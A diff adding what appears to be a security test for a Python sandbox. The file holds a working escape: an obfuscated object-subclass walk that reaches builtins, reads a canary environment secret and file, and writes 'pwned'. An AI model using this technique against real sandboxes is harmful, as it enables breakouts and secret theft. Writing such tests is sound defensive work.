@@ -1,0 +1,24 @@
+# attack: object's subclasses through getattr with attribute names built at run time
+reached = []
+
+
+def loot(b):
+    """Given the host's builtins (module or dict): keep it as the result, steal both secrets."""
+    reached.append(b)
+    try:
+        if not isinstance(b, dict):
+            b = getattr(b, "__dict__")
+        ga = b["getattr"]
+        os = b["__import__"]("os")
+        print(ga(os, "environ")["MONTY_CANARY_SECRET"])
+        print(ga(b["open"](canary_path), "read")())
+        ga(b["open"](canary_write_path, "w"), "write")("pwned")
+    except Exception as err:
+        print("loot stopped:", type(err).__name__)
+
+
+base = getattr(getattr((), "__cla" + "ss__"), "__ba" + "se__")
+for cls in getattr(base, "".join(["__sub", "classes__"]))():
+    if cls.__name__ == "_wrap_close":
+        loot(getattr(cls.__init__, "__glo" + "bals__")["__builtins__"])
+reached
